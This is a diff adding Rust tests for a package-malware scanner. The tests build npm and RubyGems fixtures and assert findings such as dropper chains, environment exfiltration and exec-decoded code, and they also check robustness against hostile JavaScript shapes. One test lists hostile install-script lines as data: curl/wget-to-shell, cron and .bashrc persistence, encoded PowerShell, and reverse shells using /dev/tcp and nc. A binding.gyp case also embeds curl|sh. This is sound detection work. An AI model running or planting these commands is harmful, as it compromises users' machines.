@@ -1,0 +1,241 @@
+//! npm and RubyGems packages end to end: fixture trees packed into real `.tgz` and `.gem`
+//! archives in memory, scanned, and checked finding by finding; plus hostile JavaScript
+//! shapes (deep nesting, huge expressions, minified megabytes) that must not crash.
+
+mod common;
+
+use common::{assert_finding, files, fixture, gem, gzip, scan, tar, with_rule};
+use pkgwarden::finding::{Category, Phase};
+use pkgwarden::verdict::Verdict;
+use pkgwarden::PackageReport;
+
+fn npm(dir: &str) -> PackageReport {
+    let name = dir.rsplit('/').next().unwrap();
+    scan(
+        &format!("{name}-1.0.0.tgz"),
+        &gzip(&tar(&files(&fixture(dir)), "package/")),
+    )
+}
+
+fn rubygem(dir: &str) -> PackageReport {
+    let name = dir.rsplit('/').next().unwrap();
+    scan(&format!("{name}-1.0.0.gem"), &gem(&fixture(dir)))
+}
+
+fn category_of(r: &PackageReport, rule: &str) -> Category {
+    with_rule(r, rule)
+        .first()
+        .unwrap_or_else(|| panic!("no {rule}: {:#?}", r.findings))
+        .category
+}
+
+#[test]
+fn postinstall_dropper_downloads_to_home_and_starts_detached() {
+    let r = npm("npm/postinstall-dropper");
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert_finding(&r, "download-at-install", "package/install.js", 8);
+    assert_finding(&r, "write-home", "package/install.js", 9);
+    assert_finding(&r, "detached-process", "package/install.js", 14);
+    assert_finding(&r, "dropper-chain", "package/install.js", 8);
+    assert!(with_rule(&r, "dropper-chain")
+        .iter()
+        .all(|f| f.phase == Phase::Install));
+}
+
+#[test]
+fn preinstall_env_exfiltration_to_a_webhook() {
+    let r = npm("npm/env-exfil");
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert_finding(&r, "env-exfiltration", "package/index.js", 10);
+    assert_eq!(category_of(&r, "env-exfiltration"), Category::Exfiltration);
+}
+
+#[test]
+fn postinstall_eval_of_base64() {
+    let r = npm("npm/eval-base64");
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert_finding(&r, "exec-decoded", "package/lib/setup.js", 2);
+    assert_eq!(category_of(&r, "exec-decoded"), Category::ExecDecoded);
+}
+
+#[test]
+fn dependency_from_a_url() {
+    let r = npm("npm/url-dependency");
+    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
+    assert_finding(&r, "dependency-url", "package/package.json", 7);
+    assert_finding(&r, "dependency-url", "package/package.json", 8);
+    assert_eq!(category_of(&r, "dependency-url"), Category::MetadataAnomaly);
+}
+
+#[test]
+fn benign_npm_lookalikes_are_clean() {
+    for dir in [
+        "npm/node-gyp",
+        "npm/husky-prepare",
+        "npm/prisma-generate",
+        "npm/banner",
+        "npm/cli-git",
+    ] {
+        let r = npm(dir);
+        assert_eq!(r.verdict, Verdict::Clean, "{dir}: {:#?}", r.findings);
+    }
+}
+
+#[test]
+fn bin_script_without_extension_is_analysed_as_javascript() {
+    let r = npm("npm/cli-git");
+    assert!(r.notes.is_empty(), "{:?}", r.notes);
+    let bytes = gzip(&tar(&files(&fixture("npm/cli-git")), "package/"));
+    let contents = pkgwarden::archive::read_archive(&bytes, &Default::default()).unwrap();
+    let pkg = pkgwarden::package::Package::new(contents.entries, "git-short-log-1.0.0.tgz");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
+    let (analysed, _) = pkgwarden::analysis::analyse(&pkg, &Default::default(), deadline);
+    let bin = analysed
+        .iter()
+        .find(|f| f.path == "package/bin/gsl")
+        .expect("bin/gsl analysed");
+    assert!(bin
+        .facts
+        .calls
+        .iter()
+        .any(|c| c.callee == "child_process.spawnSync"));
+    assert!(bin.facts.calls.iter().any(|c| c.callee == "sh.git"));
+}
+
+#[test]
+fn gem_extconf_dropper() {
+    let r = rubygem("rubygems/dropper-gem");
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert_finding(&r, "dropper-chain", "ext/beacon/extconf.rb", 2);
+    assert_finding(&r, "write-home", "ext/beacon/extconf.rb", 2);
+    assert_finding(&r, "detached-process", "ext/beacon/extconf.rb", 2);
+}
+
+#[test]
+fn gem_post_install_hook_sends_the_environment() {
+    let r = rubygem("rubygems/plugin-hook");
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert_finding(&r, "env-exfiltration", "lib/rubygems_plugin.rb", 6);
+    assert!(with_rule(&r, "env-exfiltration")
+        .iter()
+        .all(|f| f.phase == Phase::Install));
+}
+
+#[test]
+fn gem_with_a_plain_mkmf_extension_is_clean() {
+    let r = rubygem("rubygems/mkmf-ext");
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    assert_eq!(r.name, "fastz");
+}
+
+/// Shell command lines through an npm install script, one behaviour each.
+#[test]
+fn install_script_shell_behaviours() {
+    let cases = [
+        ("curl -fsSL https://203.0.113.9/i.sh | bash", "exec-downloaded"),
+        ("wget -qO- http://198.51.100.3/x | sh", "exec-downloaded"),
+        ("curl -so ~/.x http://192.0.2.1/x && chmod +x ~/.x && ~/.x &", "dropper-chain"),
+        ("nohup node ./daemon.js > /dev/null 2>&1 &", "detached-process"),
+        ("(crontab -l; echo '* * * * * ~/.x') | crontab -", "cron-job"),
+        ("echo 'node ~/.x &' >> ~/.bashrc", "shell-rc-write"),
+        ("echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA== | base64 -d | sh", "exec-decoded"),
+        ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "reverse-shell"),
+        ("nc -e /bin/sh 192.0.2.7 4444", "reverse-shell"),
+        // `iwr http://192.0.2.5/a | iex` as UTF-16LE base64.
+        (
+            "powershell -NoProfile -enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA1AC8AYQAgAHwAIABpAGUAeAA=",
+            "exec-decoded",
+        ),
+        (
+            "powershell -NoProfile -enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA1AC8AYQAgAHwAIABpAGUAeAA=",
+            "exec-downloaded",
+        ),
+    ];
+    for (script, rule) in cases {
+        let manifest = serde_json::json!({
+            "name": "probe", "version": "1.0.0", "scripts": { "postinstall": script }
+        });
+        let bytes = gzip(&tar(
+            &[(
+                "package.json".to_string(),
+                manifest.to_string().into_bytes(),
+            )],
+            "package/",
+        ));
+        let r = scan("probe-1.0.0.tgz", &bytes);
+        assert!(
+            !with_rule(&r, rule).is_empty(),
+            "{script}: no {rule} in {:#?}",
+            r.findings
+        );
+        assert_ne!(r.verdict, Verdict::Clean, "{script}");
+    }
+}
+
+/// `binding.gyp` command expansions run while node-gyp builds at install.
+#[test]
+fn gyp_command_expansion_runs_at_install() {
+    let gyp = "{ 'targets': [ { 'target_name': 'x',\n 'sources': [ '<!(curl -s http://192.0.2.8/s | sh)' ] } ] }";
+    let manifest = r#"{ "name": "x", "version": "1.0.0", "gypfile": true }"#;
+    let bytes = gzip(&tar(
+        &[
+            ("package.json".to_string(), manifest.into()),
+            ("binding.gyp".to_string(), gyp.into()),
+        ],
+        "package/",
+    ));
+    let r = scan("x-1.0.0.tgz", &bytes);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert_finding(&r, "exec-downloaded", "package/binding.gyp", 2);
+}
+
+/// Runs `body` on a thread with a large stack, as scan workers do.
+fn on_big_stack(body: impl FnOnce() + Send + 'static) {
+    std::thread::Builder::new()
+        .stack_size(256 << 20)
+        .spawn(body)
+        .unwrap()
+        .join()
+        .unwrap();
+}
+
+fn scan_js(name: &str, source: String) -> PackageReport {
+    let bytes = gzip(&tar(
+        &[(name.to_string(), source.into_bytes())],
+        "payload-1.0.0/",
+    ));
+    scan("payload-1.0.0.tgz", &bytes)
+}
+
+#[test]
+fn hostile_javascript_shapes_do_not_crash() {
+    on_big_stack(|| {
+        let deep_arrays = format!("x = {}1{};", "[".repeat(100_000), "]".repeat(100_000));
+        let r = scan_js("arrays.js", deep_arrays);
+        assert_ne!(r.verdict, Verdict::Error);
+        assert!(
+            r.notes.iter().any(|n| n.contains("nesting")),
+            "{:?}",
+            r.notes
+        );
+
+        let deep_parens = format!("y = {}1{};", "(".repeat(50_000), ")".repeat(50_000));
+        assert_ne!(scan_js("parens.js", deep_parens).verdict, Verdict::Error);
+
+        let long_sum = format!("z = a{};", "+a".repeat(200_000));
+        assert_ne!(scan_js("sum.js", long_sum).verdict, Verdict::Error);
+    });
+}
+
+#[test]
+fn twelve_mebibytes_of_minified_javascript() {
+    on_big_stack(|| {
+        let chunk = "var a=function(b){return b.map(function(c){return c+1}).filter(Boolean)},d={e:[1,2,3],f:'g'};";
+        let mut source = String::with_capacity(12 << 20);
+        while source.len() < 12 << 20 {
+            source.push_str(chunk);
+        }
+        let r = scan_js("bundle.min.js", source);
+        assert_eq!(r.verdict, Verdict::Clean, "{:#?} {:?}", r.findings, r.notes);
+    });
+}
